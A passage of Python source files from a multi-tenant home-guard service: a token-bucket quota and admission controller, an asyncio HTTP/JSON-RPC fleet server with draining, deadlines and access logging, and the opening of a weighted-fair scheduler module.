  which makes quota accounting exact (the fairness battery uses this).
* **Max-inflight admission control** bounds how much *work* may be
  queued or executing at once — per tenant and server-wide.  A request
  over either bound is rejected with
  :class:`~repro.service.errors.UnavailableError` before it can queue,
  so a flooding tenant saturates its own allowance, not the server's
  memory.

Both gates run at intake, before any service state is touched; a
rejected request costs one bucket consult and nothing else.
"""

from __future__ import annotations

import time
from dataclasses import dataclass


@dataclass(frozen=True)
class TenantQuota:
    """One tenant's serving allowance.

    ``rate`` is the sustained requests/second refill, ``burst`` the
    bucket depth (momentary requests above the rate), ``max_inflight``
    how many of the tenant's requests may be queued or executing at
    once, and ``weight`` the tenant's share in the weighted-fair
    scheduler (2.0 = twice the service of a weight-1.0 tenant under
    contention)."""

    rate: float = 50.0
    burst: int = 100
    max_inflight: int = 32
    weight: float = 1.0

    def __post_init__(self) -> None:
        if self.rate < 0:
            raise ValueError(f"rate must be >= 0, got {self.rate}")
        if self.burst < 1:
            raise ValueError(f"burst must be >= 1, got {self.burst}")
        if self.max_inflight < 1:
            raise ValueError(
                f"max_inflight must be >= 1, got {self.max_inflight}"
            )
        if self.weight <= 0:
            raise ValueError(f"weight must be > 0, got {self.weight}")


class TokenBucket:
    """The classic token bucket, on a monotonic (injectable) clock.

    Starts full at ``burst`` tokens and refills continuously at
    ``rate`` tokens/second; :meth:`try_acquire` either takes a token or
    reports the bucket empty.  ``clock`` is injectable so tests can
    drive exact accounting without sleeping."""

    __slots__ = ("rate", "burst", "_tokens", "_last", "_clock")

    def __init__(
        self, rate: float, burst: int, clock=time.monotonic
    ) -> None:
        self.rate = float(rate)
        self.burst = float(burst)
        self._tokens = float(burst)
        self._clock = clock
        self._last = clock()

    def try_acquire(self, cost: float = 1.0) -> bool:
        now = self._clock()
        if self.rate > 0.0:
            self._tokens = min(
                self.burst, self._tokens + (now - self._last) * self.rate
            )
        self._last = now
        if self._tokens >= cost:
            self._tokens -= cost
            return True
        return False

    @property
    def tokens(self) -> float:
        return self._tokens

    def __repr__(self) -> str:
        return (
            f"TokenBucket(rate={self.rate}, burst={self.burst}, "
            f"tokens={self._tokens:.2f})"
        )


class AdmissionController:
    """Quota + inflight bookkeeping for every tenant of one server.

    Not thread-safe by design: the server confines it to the event
    loop, where every intake decision is made.  ``admit`` classifies a
    request as ``"ok"``, ``"quota"`` (token bucket empty) or
    ``"inflight"`` (tenant or server at its max-inflight bound); an
    admitted request must be paired with exactly one :meth:`release`
    once its response is written."""

    def __init__(
        self,
        default_quota: TenantQuota,
        tenant_quotas: dict[str, TenantQuota] | None = None,
        max_inflight_total: int = 1024,
        clock=time.monotonic,
    ) -> None:
        self.default_quota = default_quota
        self.tenant_quotas = dict(tenant_quotas or {})
        self.max_inflight_total = max_inflight_total
        self._clock = clock
        self._buckets: dict[str, TokenBucket] = {}
        self._inflight: dict[str, int] = {}
        self.inflight_total = 0

    def quota_for(self, tenant: str) -> TenantQuota:
        return self.tenant_quotas.get(tenant, self.default_quota)

    def _bucket_for(self, tenant: str) -> TokenBucket:
        bucket = self._buckets.get(tenant)
        if bucket is None:
            quota = self.quota_for(tenant)
            bucket = self._buckets[tenant] = TokenBucket(
                quota.rate, quota.burst, clock=self._clock
            )
        return bucket

    def admit(self, tenant: str) -> str:
        if not self._bucket_for(tenant).try_acquire():
            return "quota"
        if self.inflight_total >= self.max_inflight_total:
            return "inflight"
        if self._inflight.get(tenant, 0) >= self.quota_for(tenant).max_inflight:
            return "inflight"
        self._inflight[tenant] = self._inflight.get(tenant, 0) + 1
        self.inflight_total += 1
        return "ok"

    def release(self, tenant: str) -> None:
        remaining = self._inflight.get(tenant, 0) - 1
        if remaining > 0:
            self._inflight[tenant] = remaining
        else:
            self._inflight.pop(tenant, None)
        self.inflight_total = max(0, self.inflight_total - 1)

    def inflight_of(self, tenant: str) -> int:
        return self._inflight.get(tenant, 0)
