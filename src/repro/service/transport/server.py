"""The asyncio fleet server (DESIGN.md §13).

:class:`FleetServer` puts a socket in front of one
:class:`~repro.service.service.HomeGuardService`: a stdlib-only
HTTP/1.1 + JSON-RPC front end exposing ``install`` / ``decide`` /
``audit`` / ``status`` (plus the home-admin calls) per tenant home,
decoding requests through the strict wire schemas of
:mod:`repro.service.schemas` and answering every failure with a typed
:class:`~repro.service.errors.ServiceError` record — never a traceback.

Around the raw socket layer sits the fleet-serving machinery:

* **intake** (event loop): parse frames, enforce the request-size cap,
  reject duplicated JSON fields, stamp a request id;
* **admission** (:mod:`.quota`): per-tenant token-bucket quotas and
  max-inflight bounds, checked before any service state is touched;
* **scheduling** (:mod:`.scheduler`): admitted work queues per tenant
  and reaches the one shared
  :class:`~repro.constraints.dispatch.SolverDispatcher` in
  weighted-fair order instead of arrival (FIFO) order;
* **accounting**: request-ID'd structured access logs (the
  ``repro.service.transport.access`` logger emits one JSON line per
  request) with per-phase latency counters — parse / admit / queue /
  execute / write — surfaced as a
  :class:`~repro.service.schemas.ServerStatusRecord` via the
  ``status`` RPC;
* **drain**: :meth:`FleetServer.drain` flips the server to rejecting
  new intake with a *retryable* ``unavailable`` error (HTTP 503 +
  ``Retry-After``) while every in-flight session completes;
  :meth:`FleetServer.close` drains first, then releases the socket,
  the scheduler's executor and (with ``own_service=True``) the
  service's shared process pool and solve cache — idempotent and safe
  to call concurrently;
* **deadlines** (DESIGN.md §15): with ``request_deadline_seconds``
  set, admitted work that sat in the fair-scheduling queue past the
  deadline is *not* executed — the client gets a typed, retryable
  ``unavailable`` error (``reason="deadline-exceeded"``) instead of a
  result it stopped waiting for, and ``deadline_rejections`` counts
  every such shed request in the ``status`` record.

:func:`serve_background` runs a server on a dedicated event-loop
thread and hands back a blocking handle — what synchronous tests,
examples and the legacy-equivalence gate use.
"""

from __future__ import annotations

import asyncio
import json
import logging
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from typing import Callable, Iterator

from repro.service.errors import (
    InvalidRequestError,
    QuotaExceededError,
    RequestTooLargeError,
    ServiceError,
    UnavailableError,
    UnknownSessionError,
)
from repro.service.schemas import (
    AuditRequest,
    DecisionRequest,
    InstallRequest,
    MonitorEventRequest,
    ServerStatusRecord,
    decode_wire,
)
from repro.service.service import HomeGuardService
from repro.service.transport.framing import (
    DEFAULT_MAX_REQUEST_BYTES,
    MAX_HEADER_BYTES,
    FrameError,
    encode_error,
    encode_result,
    http_response,
    http_status_of,
    parse_http_head,
    parse_rpc,
)
from repro.service.transport.quota import AdmissionController, TenantQuota
from repro.service.transport.scheduler import FairScheduler
from repro.testing.faults import fault_hook

access_log = logging.getLogger("repro.service.transport.access")
server_log = logging.getLogger("repro.service.transport")

#: Latency phases of one request, in order.
PHASES = ("parse", "admit", "queue", "execute", "write")

#: Methods answered inline on the event loop: no quota, no queue, and
#: available while draining — exactly what a health/metrics probe needs.
INLINE_METHODS = frozenset({"status"})

#: Tenant key for methods that carry no home_id (e.g. ``echo``).
UNTENANTED = "-"


class _TenantCounters:
    __slots__ = ("requests", "completed", "quota_rejections",
                 "admission_rejections")

    def __init__(self) -> None:
        self.requests = 0
        self.completed = 0
        self.quota_rejections = 0
        self.admission_rejections = 0

    def as_dict(self) -> dict[str, int]:
        return {
            "requests": self.requests,
            "completed": self.completed,
            "quota_rejections": self.quota_rejections,
            "admission_rejections": self.admission_rejections,
        }


class FleetServer:
    """One long-lived service process absorbing a fleet's traffic.

    Parameters
    ----------
    service:
        The :class:`HomeGuardService` to serve.  With
        ``own_service=True`` the server closes it (dispatcher pool +
        shared solve cache) after its own drain — the shutdown ordering
        that keeps the WAL-SQLite cache and process pool clean under
        in-flight load.
    host, port:
        Bind address; ``port=0`` picks an ephemeral port (read it back
        from :attr:`port` after :meth:`start`).
    quota:
        Default :class:`TenantQuota` (rate/burst/max-inflight/weight)
        for every tenant; ``tenant_quotas`` overrides per home id.
    max_inflight_total:
        Server-wide admission bound across all tenants.
    max_request_bytes:
        Request bodies above this are refused with a typed
        ``request-too-large`` error before being read.
    io_timeout:
        Seconds to wait for a promised request body; a truncated body
        yields a typed error response, not a hung connection.
    idle_timeout:
        Seconds a keep-alive connection may sit idle between requests.
    on_access:
        Optional callback receiving each access-log record (a dict) —
        the test batteries use it to observe execution order.
    request_deadline_seconds:
        Optional bound on how long an admitted request may wait in the
        scheduling queue before execution.  Work still queued past the
        deadline is shed with a retryable ``unavailable`` error
        (``reason="deadline-exceeded"``) instead of being executed for
        a client that has likely timed out — the overload valve that
        keeps queue time bounded.  ``None`` (default) never sheds.
    """

    def __init__(
        self,
        service: HomeGuardService,
        host: str = "127.0.0.1",
        port: int = 0,
        *,
        quota: TenantQuota | None = None,
        tenant_quotas: dict[str, TenantQuota] | None = None,
        max_inflight_total: int = 1024,
        max_request_bytes: int = DEFAULT_MAX_REQUEST_BYTES,
        io_timeout: float = 30.0,
        idle_timeout: float = 120.0,
        own_service: bool = False,
        on_access: Callable[[dict], None] | None = None,
        request_deadline_seconds: float | None = None,
        clock=time.monotonic,
    ) -> None:
        if request_deadline_seconds is not None and (
            request_deadline_seconds <= 0
        ):
            raise ValueError(
                "request_deadline_seconds must be positive, got "
                f"{request_deadline_seconds!r}"
            )
        self.service = service
        self.host = host
        self.port = port
        self.max_request_bytes = max_request_bytes
        self.io_timeout = io_timeout
        self.idle_timeout = idle_timeout
        self.own_service = own_service
        self.on_access = on_access
        self.request_deadline_seconds = request_deadline_seconds
        self.state = "closed"  # closed -> serving -> draining -> closed
        self._admission = AdmissionController(
            quota if quota is not None else TenantQuota(),
            tenant_quotas,
            max_inflight_total=max_inflight_total,
            clock=clock,
        )
        self._server: asyncio.base_events.Server | None = None
        self._scheduler: FairScheduler | None = None
        self._scheduler_task: asyncio.Task | None = None
        self._executor: ThreadPoolExecutor | None = None
        self._connections: set[asyncio.StreamWriter] = set()
        self._close_lock: asyncio.Lock | None = None
        self._rid = 0
        # Process-lifetime accounting (all mutated on the event loop).
        self.requests_total = 0
        self.errors_total = 0
        self.internal_errors = 0
        self.quota_rejections = 0
        self.admission_rejections = 0
        self.drain_rejections = 0
        self.deadline_rejections = 0
        self._phase_seconds = {phase: 0.0 for phase in PHASES}
        self._phase_counts = {phase: 0 for phase in PHASES}
        self._tenants: dict[str, _TenantCounters] = {}
        self._methods: dict[str, Callable] = {
            "create_home": self._rpc_create_home,
            "register_device": self._rpc_register_device,
            "install": self._rpc_install,
            "decide": self._rpc_decide,
            "audit": self._rpc_audit,
            "session": self._rpc_session,
            "sessions": self._rpc_sessions,
            "installed_apps": self._rpc_installed_apps,
            "stats": self._rpc_stats,
            "ingest_events": self._rpc_ingest_events,
            "observations": self._rpc_observations,
            "echo": self._rpc_echo,
        }

    # ------------------------------------------------------------------
    # Lifecycle

    async def start(self) -> None:
        if self.state != "closed":
            raise RuntimeError(f"server already {self.state}")
        self._close_lock = asyncio.Lock()
        self._executor = ThreadPoolExecutor(
            max_workers=1, thread_name_prefix="fleet-exec"
        )
        self._scheduler = FairScheduler(self._executor)
        self._scheduler_task = asyncio.get_running_loop().create_task(
            self._scheduler.run()
        )
        self._server = await asyncio.start_server(
            self._handle_conn, self.host, self.port, limit=MAX_HEADER_BYTES
        )
        self.port = self._server.sockets[0].getsockname()[1]
        self.state = "serving"
        server_log.info(
            "fleet server listening on %s:%d", self.host, self.port
        )

    @property
    def address(self) -> tuple[str, int]:
        return (self.host, self.port)

    async def drain(self) -> None:
        """Stop taking new work; return once every admitted request has
        completed.  Idempotent, and callable concurrently — every
        caller returns once the server is quiescent."""
        if self.state == "serving":
            self.state = "draining"
            server_log.info("fleet server draining")
        while self._admission.inflight_total > 0:
            await asyncio.sleep(0.005)

    async def close(self) -> None:
        """Drain, then release the socket, the scheduler executor and
        (when owned) the service's shared pool/cache.  Idempotent and
        safe to call concurrently: one caller does the work under the
        lock, the rest wait and return."""
        if self._close_lock is None:  # never started
            self.state = "closed"
            return
        async with self._close_lock:
            if self.state == "closed":
                return
            await self.drain()
            self.state = "closed"
            if self._scheduler is not None:
                self._scheduler.stop()
            if self._scheduler_task is not None:
                await self._scheduler_task
                self._scheduler_task = None
            if self._server is not None:
                self._server.close()
                await self._server.wait_closed()
                self._server = None
            for writer in list(self._connections):
                writer.close()
            self._connections.clear()
            if self._executor is not None:
                self._executor.shutdown(wait=True)
                self._executor = None
            if self.own_service:
                self.service.close()
            server_log.info("fleet server closed")

    async def __aenter__(self) -> "FleetServer":
        await self.start()
        return self

    async def __aexit__(self, *exc_info) -> None:
        await self.close()

    # ------------------------------------------------------------------
    # Connection handling

    async def _handle_conn(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        self._connections.add(writer)
        try:
            while self.state != "closed":
                keep_alive = await self._handle_one(reader, writer)
                if not keep_alive:
                    break
        except (ConnectionError, asyncio.CancelledError):
            pass
        finally:
            self._connections.discard(writer)
            try:
                writer.close()
            except Exception:
                pass

    async def _read_head(self, reader: asyncio.StreamReader) -> bytes | None:
        """The raw request head, ``None`` for a clean EOF, or a
        :class:`FrameError` for an unusable stream."""
        try:
            return await asyncio.wait_for(
                reader.readuntil(b"\r\n\r\n"), self.idle_timeout
            )
        except asyncio.IncompleteReadError as exc:
            if not exc.partial:
                return None  # clean EOF between requests
            raise FrameError(
                InvalidRequestError(
                    "connection closed mid-request (truncated head)"
                )
            ) from exc
        except (asyncio.LimitOverrunError, ValueError) as exc:
            raise FrameError(
                RequestTooLargeError(
                    f"request head exceeds {MAX_HEADER_BYTES} bytes"
                )
            ) from exc
        except asyncio.TimeoutError:
            return None  # idle keep-alive connection: close silently

    async def _handle_one(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> bool:
        """Serve one request; returns whether to keep the connection."""
        timings = {phase: 0.0 for phase in PHASES}
        rid = None
        try:
            head_bytes = await self._read_head(reader)
            if head_bytes is None:
                return False
            started = time.perf_counter()
            self._rid += 1
            rid = f"r{self._rid:08d}"
            head = parse_http_head(head_bytes)
            if head.method != "POST":
                raise FrameError(
                    InvalidRequestError(
                        f"method {head.method!r} not allowed; POST a "
                        "JSON-RPC envelope to /rpc"
                    ),
                    status=405,
                    close=head.content_length in (None, 0),
                )
            if head.target not in ("/rpc", "/"):
                raise FrameError(
                    InvalidRequestError(
                        f"unknown target {head.target!r}; RPCs go to /rpc"
                    ),
                    status=404,
                )
            length = head.content_length
            if length is None:
                raise FrameError(
                    InvalidRequestError(
                        "Content-Length is required (chunked bodies are "
                        "not supported)"
                    )
                )
            if length > self.max_request_bytes:
                raise FrameError(
                    RequestTooLargeError(
                        f"request body of {length} bytes exceeds the "
                        f"{self.max_request_bytes}-byte cap",
                        limit=self.max_request_bytes,
                    )
                )
            body = await self._read_body(reader, length)
            rpc = parse_rpc(body)
            timings["parse"] = time.perf_counter() - started
        except FrameError as exc:
            self.errors_total += 1
            await self._respond_error(
                writer, None, exc.error, exc.status, rid,
                keep_alive=not exc.close, timings=timings,
                method=None, tenant=None,
            )
            return not exc.close
        self.requests_total += 1
        keep_alive = head.keep_alive
        await self._dispatch(writer, rpc, rid, timings, keep_alive)
        return keep_alive

    async def _read_body(
        self, reader: asyncio.StreamReader, length: int
    ) -> bytes:
        try:
            return await asyncio.wait_for(
                reader.readexactly(length), self.io_timeout
            )
        except asyncio.IncompleteReadError as exc:
            raise FrameError(
                InvalidRequestError(
                    f"truncated request body: promised {length} bytes, "
                    f"received {len(exc.partial)}"
                )
            ) from exc
        except asyncio.TimeoutError:
            raise FrameError(
                InvalidRequestError(
                    f"truncated request body: promised {length} bytes "
                    f"never arrived within {self.io_timeout:.1f}s"
                )
            ) from None

    # ------------------------------------------------------------------
    # Dispatch

    @staticmethod
    def _tenant_of(rpc) -> str:
        params = rpc.params
        if isinstance(params, dict):
            home_id = params.get("home_id")
            if isinstance(home_id, str) and home_id:
                return home_id
        return UNTENANTED

    def _tenant_counters(self, tenant: str) -> _TenantCounters:
        counters = self._tenants.get(tenant)
        if counters is None:
            counters = self._tenants[tenant] = _TenantCounters()
        return counters

    async def _dispatch(
        self, writer, rpc, rid: str, timings: dict, keep_alive: bool
    ) -> None:
        tenant = self._tenant_of(rpc)
        counters = self._tenant_counters(tenant)
        counters.requests += 1
        handler = self._methods.get(rpc.method)
        if rpc.method in INLINE_METHODS:
            # Health/metrics path: no quota, no queue, works mid-drain.
            result = self._status_record().to_json()
            await self._respond_result(
                writer, rpc, result, rid, keep_alive, timings,
                tenant=tenant,
            )
            counters.completed += 1
            return
        if handler is None:
            self.errors_total += 1
            await self._respond_error(
                writer, rpc, InvalidRequestError(
                    f"unknown method {rpc.method!r}; valid methods: "
                    + ", ".join(sorted(set(self._methods) | INLINE_METHODS))
                ),
                None, rid, keep_alive, timings, rpc.method, tenant,
                jsonrpc_code=-32601,
            )
            return

        admit_started = time.perf_counter()
        if self.state != "serving":
            self.drain_rejections += 1
            self.errors_total += 1
            timings["admit"] = time.perf_counter() - admit_started
            await self._respond_error(
                writer, rpc, UnavailableError(
                    "server is draining; retry against a live instance",
                    retryable=True, reason="draining",
                ),
                None, rid, keep_alive, timings, rpc.method, tenant,
                retry_after=1.0,
            )
            return
        verdict = self._admission.admit(tenant)
        timings["admit"] = time.perf_counter() - admit_started
        if verdict == "quota":
            quota = self._admission.quota_for(tenant)
            retry_after = 1.0 / quota.rate if quota.rate > 0 else None
            self.quota_rejections += 1
            counters.quota_rejections += 1
            self.errors_total += 1
            await self._respond_error(
                writer, rpc, QuotaExceededError(
                    f"tenant {tenant!r} exceeded its request quota "
                    f"({quota.rate:g}/s, burst {quota.burst})",
                    retryable=quota.rate > 0, tenant=tenant,
                ),
                None, rid, keep_alive, timings, rpc.method, tenant,
                retry_after=retry_after,
            )
            return
        if verdict == "inflight":
            self.admission_rejections += 1
            counters.admission_rejections += 1
            self.errors_total += 1
            await self._respond_error(
                writer, rpc, UnavailableError(
                    f"tenant {tenant!r} is at its max-inflight bound; "
                    "retry once queued work completes",
                    retryable=True, reason="max-inflight", tenant=tenant,
                ),
                None, rid, keep_alive, timings, rpc.method, tenant,
                retry_after=0.05,
            )
            return

        queue_started = time.perf_counter()

        def queue_done() -> None:
            timings["queue"] = time.perf_counter() - queue_started

        weight = self._admission.quota_for(tenant).weight
        try:
            execute_box = {}

            deadline = self.request_deadline_seconds

            def job(params=rpc.params, handler=handler):
                job_started = time.perf_counter()
                queued_for = job_started - queue_started
                if deadline is not None and queued_for > deadline:
                    # Shed, don't execute: the client has likely given
                    # up on a request that waited this long, and doing
                    # the work anyway only deepens the queue.
                    raise UnavailableError(
                        f"request {rid} spent {queued_for:.3f}s queued, "
                        f"past the {deadline:.3f}s deadline; retry "
                        "against a less-loaded instance",
                        retryable=True, reason="deadline-exceeded",
                        queued_seconds=round(queued_for, 6),
                    )
                try:
                    return handler(params)
                finally:
                    execute_box["seconds"] = (
                        time.perf_counter() - job_started
                    )

            future = self._scheduler.submit(
                tenant, weight, job, on_start=queue_done
            )
            try:
                result = await future
            finally:
                timings["execute"] = execute_box.get("seconds", 0.0)
        except ServiceError as exc:
            self.errors_total += 1
            if exc.details.get("reason") == "deadline-exceeded":
                self.deadline_rejections += 1
            await self._respond_error(
                writer, rpc, exc, None, rid, keep_alive, timings,
                rpc.method, tenant,
                retry_after=(
                    0.05
                    if exc.details.get("reason") == "deadline-exceeded"
                    else None
                ),
            )
            return
        except Exception:
            # The one catch-all: no traceback ever reaches the wire.
            self.internal_errors += 1
            self.errors_total += 1
            server_log.exception(
                "unhandled exception serving %s %s (tenant %s)",
                rid, rpc.method, tenant,
            )
            await self._respond_error(
                writer, rpc, ServiceError(
                    f"internal error serving request {rid}; see the "
                    "server log",
                ),
                None, rid, keep_alive, timings, rpc.method, tenant,
            )
            return
        finally:
            self._admission.release(tenant)
        counters.completed += 1
        await self._respond_result(
            writer, rpc, result, rid, keep_alive, timings, tenant=tenant
        )

    # ------------------------------------------------------------------
    # Responses + accounting

    async def _write(
        self, writer, payload: bytes, timings: dict
    ) -> None:
        started = time.perf_counter()
        try:
            fault_hook("transport.write", bytes=len(payload))
            writer.write(payload)
            await writer.drain()
        except (ConnectionError, RuntimeError):
            pass  # client went away; accounting already happened
        except Exception:
            # An injected (or genuinely broken) write: close the
            # connection so the client sees a fast reset — a half-sent
            # response would desynchronise its HTTP framing, turning
            # one lost response into a poisoned keep-alive stream.
            try:
                writer.close()
            except Exception:
                pass
        timings["write"] = time.perf_counter() - started

    def _account(
        self, rid, method, tenant, status: int, code: str | None,
        timings: dict, bytes_out: int,
    ) -> None:
        for phase in PHASES:
            seconds = timings.get(phase, 0.0)
            if seconds:
                self._phase_seconds[phase] += seconds
                self._phase_counts[phase] += 1
        record = {
            "rid": rid,
            "method": method,
            "tenant": tenant,
            "status": status,
            "code": code,
            "bytes_out": bytes_out,
            "phases_ms": {
                phase: round(timings.get(phase, 0.0) * 1000.0, 3)
                for phase in PHASES
            },
        }
        if access_log.isEnabledFor(logging.INFO):
            access_log.info(json.dumps(record, sort_keys=True))
        if self.on_access is not None:
            try:
                self.on_access(dict(record))
            except Exception:
                server_log.exception("on_access callback failed")

    async def _respond_result(
        self, writer, rpc, result, rid, keep_alive, timings, tenant
    ) -> None:
        body = encode_result(rpc.id if rpc else None, result)
        payload = http_response(
            200, body, keep_alive=keep_alive, request_id=rid
        )
        await self._write(writer, payload, timings)
        self._account(
            rid, rpc.method if rpc else None, tenant, 200, None,
            timings, len(payload),
        )

    async def _respond_error(
        self, writer, rpc, error: ServiceError, status, rid, keep_alive,
        timings, method, tenant, retry_after: float | None = None,
        jsonrpc_code: int | None = None,
    ) -> None:
        body = encode_error(rpc.id if rpc else None, error)
        if jsonrpc_code is not None:
            # Re-encode with the protocol-level code (e.g. -32601).
            envelope = json.loads(body)
            envelope["error"]["code"] = jsonrpc_code
            body = json.dumps(envelope, separators=(",", ":")).encode()
        http_status = status if status is not None else http_status_of(error)
        payload = http_response(
            http_status, body, keep_alive=keep_alive, request_id=rid,
            retry_after=retry_after,
        )
        await self._write(writer, payload, timings)
        self._account(
            rid, method, tenant, http_status, error.code, timings,
            len(payload),
        )

    # ------------------------------------------------------------------
    # Status

    def _status_record(self) -> ServerStatusRecord:
        faults = self.service.fault_summary()
        monitor = self.service.monitor_totals()
        return ServerStatusRecord(
            state=self.state,
            homes=self.service.home_count(),
            homes_resident=self.service.resident_count(),
            requests_total=self.requests_total,
            requests_inflight=self._admission.inflight_total,
            quota_rejections=self.quota_rejections,
            admission_rejections=self.admission_rejections,
            drain_rejections=self.drain_rejections,
            deadline_rejections=self.deadline_rejections,
            errors_total=self.errors_total,
            internal_errors=self.internal_errors,
            breaker_states=self.service.breaker_states(),
            tasks_retried=faults.get("tasks_retried", 0),
            degraded_serial=faults.get("degraded_serial", 0),
            monitor_events=monitor.get("monitor_events", 0),
            monitor_observations=monitor.get("monitor_observations", 0),
            phase_seconds={
                phase: round(seconds, 6)
                for phase, seconds in self._phase_seconds.items()
            },
            phase_counts=dict(self._phase_counts),
            tenants={
                tenant: counters.as_dict()
                for tenant, counters in sorted(self._tenants.items())
            },
        )

    # ------------------------------------------------------------------
    # RPC method handlers (run on the scheduler's executor thread, one
    # at a time — the service object is single-threaded by contract)

    @staticmethod
    def _params_dict(params) -> dict:
        if params is None:
            return {}
        if not isinstance(params, dict):
            raise InvalidRequestError(
                f"params must be an object, got {type(params).__name__}"
            )
        return params

    @staticmethod
    def _param_str(params: dict, name: str) -> str:
        value = params.get(name)
        if not isinstance(value, str) or not value:
            raise InvalidRequestError(
                f"params.{name} must be a non-empty string, got {value!r}"
            )
        return value

    def _rpc_create_home(self, params) -> dict:
        params = self._params_dict(params)
        unknown = set(params) - {"home_id", "policy"}
        if unknown:
            raise InvalidRequestError(
                f"unknown create_home param(s) {sorted(unknown)!r}"
            )
        home_id = self._param_str(params, "home_id")
        policy_name = params.get("policy")
        policy = None
        if policy_name is not None:
            from repro.service.policies import (
                AutoDenyPolicy,
                InteractivePolicy,
            )

            policies = {
                "interactive": InteractivePolicy,
                "auto-deny": AutoDenyPolicy,
            }
            if policy_name not in policies:
                raise InvalidRequestError(
                    f"unknown policy {policy_name!r}; valid policies: "
                    + ", ".join(sorted(policies))
                )
            policy = policies[policy_name]()
        self.service.create_home(home_id, policy=policy)
        return {"home_id": home_id, "created": True}

    def _rpc_register_device(self, params) -> dict:
        params = self._params_dict(params)
        device = self.service.register_device(
            self._param_str(params, "home_id"),
            self._param_str(params, "label"),
            self._param_str(params, "type"),
        )
        return {
            "device_id": device.device_id,
            "label": device.label,
            "type": device.type_name,
        }

    def _rpc_install(self, params) -> dict:
        return self.service.install(
            InstallRequest.from_json(params)
        ).to_json()

    def _rpc_decide(self, params) -> dict:
        return self.service.decide(
            DecisionRequest.from_json(params)
        ).to_json()

    def _rpc_audit(self, params) -> dict:
        reports = self.service.audit(AuditRequest.from_json(params))
        return {"reports": [report.to_json() for report in reports]}

    def _rpc_session(self, params) -> dict:
        params = self._params_dict(params)
        home_id = self._param_str(params, "home_id")
        session_id = self._param_str(params, "session_id")
        session = self.service.session(session_id)
        if session.home_id != home_id:
            # Same no-existence-leak contract as decide(): another
            # tenant's session ids look like they never existed.
            raise UnknownSessionError(
                f"no session {session_id!r} in home {home_id!r}",
                session_id=session_id, home_id=home_id,
            )
        return session.to_json()

    def _rpc_sessions(self, params) -> dict:
        params = self._params_dict(params)
        home_id = params.get("home_id")
        if home_id is not None and not isinstance(home_id, str):
            raise InvalidRequestError(
                f"params.home_id must be a string, got {home_id!r}"
            )
        return {
            "sessions": [
                session.to_json()
                for session in self.service.sessions(home_id)
            ]
        }

    def _rpc_installed_apps(self, params) -> dict:
        params = self._params_dict(params)
        return {
            "apps": self.service.installed_apps(
                self._param_str(params, "home_id")
            )
        }

    def _rpc_stats(self, params) -> dict:
        params = self._params_dict(params)
        return self.service.detection_stats_record(
            self._param_str(params, "home_id")
        ).to_json()

    def _rpc_ingest_events(self, params) -> dict:
        # One batch = one admission-controlled job: a 10k-event burst
        # occupies exactly one scheduler slot, so monitor ingestion
        # cannot starve other tenants' install traffic.
        records = self.service.ingest_events(
            MonitorEventRequest.from_json(params)
        )
        return {"observations": [record.to_json() for record in records]}

    def _rpc_observations(self, params) -> dict:
        params = self._params_dict(params)
        return {
            "observations": [
                record.to_json()
                for record in self.service.observations(
                    self._param_str(params, "home_id")
                )
            ]
        }

    def _rpc_echo(self, params) -> dict:
        # Conformance probe: strict-decode any wire record (requests,
        # responses, transported ServiceErrors) and re-encode it — the
        # loopback proof that frozen dataclasses survive the socket.
        return decode_wire(params).to_json()


# ----------------------------------------------------------------------
# Background serving (synchronous callers)


class BackgroundServer:
    """Blocking handle over a :class:`FleetServer` on its own loop
    thread."""

    def __init__(self, server: FleetServer, loop, thread) -> None:
        self._server = server
        self._loop = loop
        self._thread = thread
        self._stopped = False

    @property
    def server(self) -> FleetServer:
        return self._server

    @property
    def host(self) -> str:
        return self._server.host

    @property
    def port(self) -> int:
        return self._server.port

    @property
    def url(self) -> str:
        return f"http://{self.host}:{self.port}/rpc"

    def _run(self, coro, timeout: float = 60.0):
        return asyncio.run_coroutine_threadsafe(coro, self._loop).result(
            timeout
        )

    def drain(self, timeout: float = 60.0) -> None:
        self._run(self._server.drain(), timeout)

    def stop(self, timeout: float = 60.0) -> None:
        """Drain + close the server, stop the loop, join the thread.
        Idempotent."""
        if self._stopped:
            return
        self._stopped = True
        try:
            self._run(self._server.close(), timeout)
        finally:
            self._loop.call_soon_threadsafe(self._loop.stop)
            self._thread.join(timeout)


@contextmanager
def serve_background(
    service: HomeGuardService, **server_kwargs
) -> Iterator[BackgroundServer]:
    """Run a :class:`FleetServer` on a dedicated event-loop thread.

    Yields a :class:`BackgroundServer`; the server is drained and
    closed on exit (the service itself is closed only with
    ``own_service=True``)."""
    loop = asyncio.new_event_loop()
    started = threading.Event()
    boot: dict = {}

    def runner() -> None:
        asyncio.set_event_loop(loop)
        server = FleetServer(service, **server_kwargs)
        try:
            loop.run_until_complete(server.start())
            boot["server"] = server
        except BaseException as exc:
            boot["error"] = exc
            started.set()
            return
        started.set()
        try:
            loop.run_forever()
        finally:
            loop.run_until_complete(loop.shutdown_asyncgens())
            loop.close()

    thread = threading.Thread(
        target=runner, name="fleet-server", daemon=True
    )
    thread.start()
    started.wait(30.0)
    if "error" in boot:
        raise boot["error"]
    if "server" not in boot:
        raise RuntimeError("fleet server failed to start within 30s")
    handle = BackgroundServer(boot["server"], loop, thread)
    try:
        yield handle
    finally:
        handle.stop()
