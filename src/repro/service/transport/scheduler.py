"""Weighted-fair scheduling of tenant work (DESIGN.md §13).

Before the transport existed, tenant requests reached the one shared
:class:`~repro.constraints.dispatch.SolverDispatcher` in plain arrival
order — FIFO per batch.  A tenant that submits 200 installs ahead of
everyone else would then own the dispatcher until its queue drained.

:class:`WeightedFairQueue` replaces that with per-job *virtual finish
tags* (weighted fair queueing / stride scheduling): each tenant's jobs
are tagged ``max(virtual_time, tenant_last_tag) + 1/weight`` at
enqueue, and the scheduler always pops the smallest tag.  A flooding
tenant's 200 queued jobs get tags stretching 200/weight into the
virtual future, so a light tenant's fresh job — tagged just past *now*
— runs after at most ~one of the heavy tenant's jobs, regardless of
arrival order.  Weights buy proportionally more service: a weight-2
tenant's tags advance half as fast, so it wins twice the pops under
contention.

The queue is a plain data structure (heap + per-tenant bookkeeping),
confined to the server's event loop; :class:`FairScheduler` adds the
asyncio plumbing — an ``await``-able pop and a single run loop that
executes one job at a time on a dedicated executor thread.  One job at
a time is deliberate: the service object (shared extractor, session
table, per-home pipelines) is not thread-safe, and the parallelism
that matters — the solver fan-out — happens *inside* a job via the
shared dispatcher's worker pool.  Fairness here decides *whose* batch
feeds that pool next.
"""

from __future__ import annotations

import asyncio
import heapq
import itertools
from typing import Any, Callable


